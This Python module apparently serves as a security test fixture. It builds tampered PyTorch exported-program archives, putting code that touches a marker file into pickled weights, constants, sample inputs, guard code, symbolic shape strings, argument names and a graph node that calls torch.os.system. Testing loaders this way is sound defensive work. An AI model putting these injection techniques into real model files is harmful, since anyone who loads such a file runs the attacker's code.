"""Programs' archives with code planted in them, each in another place."""

from __future__ import annotations

import io
import json
import pickle
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch
from torch import nn


class Bomb:
    """What an attacker puts into a pickle."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Any, ...]:
        return Path.touch, (self.marker,)


def rewrite(path: Path, change: Callable[[str, bytes], bytes | None], **added: bytes) -> None:
    """Write an archive again with some entries changed, taken out or added."""
    with zipfile.ZipFile(path) as archive:
        entries = {name: archive.read(name) for name in archive.namelist()}
    root = next(iter(entries)).partition("/")[0]
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in entries.items():
            new = change(name.partition("/")[2], content)
            if new is not None:
                archive.writestr(name, new)
        for name, content in added.items():
            archive.writestr(f"{root}/{name}" if "/" in name else name, content)


def pickled(value: Any) -> bytes:
    buffer = io.BytesIO()
    torch.save(value, buffer)
    return buffer.getvalue()


def planted(change: Callable[[dict[str, Any]], None]) -> Callable[[Path], None]:
    """An attack that changes the program itself, which is JSON."""

    def craft(path: Path) -> None:
        def rewritten(name: str, content: bytes) -> bytes:
            if name != "models/model.json":
                return content
            program = json.loads(content)
            change(program)
            return json.dumps(program).encode()

        rewrite(path, rewritten)

    return craft


def source_for(marker: Path) -> str:
    return f"__import__('pathlib').Path('{marker}').touch()"


def _pickled_weight(path: Path, marker: Path) -> None:
    def change(name: str, content: bytes) -> bytes:
        if name.endswith("weights_config.json"):
            config = json.loads(content)
            next(iter(config["config"].values()))["use_pickle"] = True
            return json.dumps(config).encode()
        return pickled(Bomb(marker)) if name == "data/weights/weight_0" else content

    rewrite(path, change)


def _constant(prefix: str) -> Callable[[Path, Path], None]:
    def craft(path: Path, marker: Path) -> None:
        with zipfile.ZipFile(path) as archive:
            (name,) = [n for n in archive.namelist() if n.endswith("weights_config.json")]
            meta = json.loads(archive.read(name))["config"]["model.5.bias"]["tensor_meta"]
        bomb = pickle.dumps(Bomb(marker))
        bomb += b"\0" * (-len(bomb) % 4)  # passes for floats, and unpickles all the same
        meta["sizes"] = [{"as_int": len(bomb) // 4}]

        def change(name: str, content: bytes) -> bytes:
            if name.endswith("constants_config.json"):
                entry = {"path_name": f"{prefix}0", "is_param": False, "use_pickle": False}
                return json.dumps({"config": {"c": {**entry, "tensor_meta": meta}}}).encode()
            return content

        rewrite(path, change, **{f"data/constants/{prefix}0": bomb})

    return craft


def _pickled_constant(path: Path, marker: Path) -> None:
    def change(name: str, content: bytes) -> bytes:
        if name.endswith("constants_config.json"):
            entry = {"path_name": "tensor_0", "is_param": False, "use_pickle": True}
            return json.dumps({"config": {"c": {**entry, "tensor_meta": None}}}).encode()
        return content

    rewrite(path, change, **{"data/constants/tensor_0": pickled(Bomb(marker))})


def _sample_inputs(path: Path, marker: Path) -> None:
    def change(name: str, content: bytes) -> bytes:
        return pickled(((Bomb(marker),), {})) if name.startswith("data/sample_inputs/") else content

    rewrite(path, change)


def _legacy_weights(path: Path, marker: Path) -> None:
    rewrite(path, lambda _, content: content, **{"data/weights/model.pt": pickled(Bomb(marker))})


def _legacy_constants(path: Path, marker: Path) -> None:
    rewrite(path, lambda _, content: content, **{"data/constants/model.pt": pickled(Bomb(marker))})


def _format_of_torch_2_7(path: Path, marker: Path) -> None:
    with zipfile.ZipFile(path) as archive:
        (name,) = [n for n in archive.namelist() if n.endswith("models/model.json")]
        program = archive.read(name)
    from torch._export.serde.schema import SCHEMA_VERSION

    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("version", ".".join(map(str, SCHEMA_VERSION)))
        archive.writestr("serialized_exported_program.json", program)
        for part in ("state_dict", "constants", "example_inputs"):
            archive.writestr(f"serialized_{part}.pt", pickled(Bomb(marker)))


def _guard(path: Path, marker: Path) -> None:
    planted(lambda program: program.update(guards_code=[source_for(marker)]))(path)


def _open_dimension(path: Path, marker: Path) -> None:
    save_open(path)
    code = source_for(marker)

    def change(program: dict[str, Any]) -> None:
        (size,) = program["graph_module"]["graph"]["sym_int_values"].values()
        size["as_expr"]["expr_str"] = code

    planted(change)(path)


def _wrapped_symbol(path: Path, marker: Path) -> None:
    save_open(path)
    code = source_for(marker)

    def change(program: dict[str, Any]) -> None:
        (size,) = program["graph_module"]["graph"]["sym_int_values"].values()
        size["as_expr"]["expr_str"] = f"Mul(Integer(2), {code})"

    planted(change)(path)


def _size_of_a_tensor_called_metadata(path: Path, marker: Path) -> None:
    """Under a key that is text only elsewhere."""
    save_open(path)
    code = source_for(marker)

    def change(program: dict[str, Any]) -> None:
        graph = program["graph_module"]["graph"]
        (name,) = graph["sym_int_values"]
        graph["sym_int_values"] = {"stack_trace": {"as_expr": {"expr_str": code, "hint": None}}}
        for node in graph["nodes"]:
            text = json.dumps(node).replace(f'"as_name": "{name}"', '"as_name": "stack_trace"')
            node.update(json.loads(text))

    planted(change)(path)


def _argument_name(path: Path, marker: Path) -> None:
    def change(program: dict[str, Any]) -> None:
        signature = program["graph_module"]["module_call_graph"][0]["signature"]
        signature["forward_arg_names"] = [f"input={source_for(marker)}"]

    planted(change)(path)


def _keyword(path: Path, marker: Path) -> None:
    def change(program: dict[str, Any]) -> None:
        signature = program["graph_module"]["module_call_graph"][0]["signature"]
        signature["forward_arg_names"] = None
        spec = json.loads(signature["in_spec"])
        arguments, keywords = spec[1]["children_spec"]
        keywords["children_spec"], arguments["children_spec"] = arguments["children_spec"], []
        keywords["context"] = json.dumps([f"input={source_for(marker)}"])
        signature["in_spec"] = json.dumps(spec)

    planted(change)(path)


def _parameter_name(path: Path, marker: Path) -> None:
    def change(program: dict[str, Any]) -> None:
        specs = program["graph_module"]["signature"]["input_specs"]
        spec = next(s["parameter"] for s in specs if "parameter" in s)
        spec["parameter_name"] += f'" if {source_for(marker)} else "'

    planted(change)(path)


def _function(path: Path, marker: Path) -> None:
    """PyTorch calls whatever a node names below ``torch``, and that imports much."""

    def change(program: dict[str, Any]) -> None:
        argument = {"name": "", "arg": {"as_string": f"touch {marker}"}, "kind": 1}
        node = {"target": "torch.os.system", "inputs": [argument], "metadata": {}}
        node["outputs"] = [{"as_none": True}]
        program["graph_module"]["graph"]["nodes"].insert(0, node)

    planted(change)(path)


def save_open(path: Path) -> None:
    """A program with an open batch dimension."""

    class Net(nn.Module):
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return x.mean((2, 3)).reshape(x.shape[0], 3)

    batch = torch.export.Dim("batch", min=1, max=8)
    program = torch.export.export(
        Net(), (torch.zeros(2, 3, 4, 4),), dynamic_shapes=({0: batch},), strict=False
    )
    torch.export.save(program, path)


def _compiled_code(path: Path, marker: Path) -> None:
    rewrite(path, lambda _, content: content, **{"data/aotinductor/model/model.so": b"\x7fELF"})


ATTACKS = {
    "pickled weight": _pickled_weight,
    "pickled constant": _pickled_constant,
    "sample inputs": _sample_inputs,
    "opaque object": _constant("opaque_obj_"),
    "custom object": _constant("custom_obj_"),
    "legacy weights": _legacy_weights,
    "legacy constants": _legacy_constants,
    "format of 2.7": _format_of_torch_2_7,
    "guard": _guard,
    "open dimension": _open_dimension,
    "factor of a dimension": _wrapped_symbol,
    "dimension under another key": _size_of_a_tensor_called_metadata,
    "argument name": _argument_name,
    "keyword": _keyword,
    "parameter name": _parameter_name,
    "function": _function,
    "compiled code": _compiled_code,
}
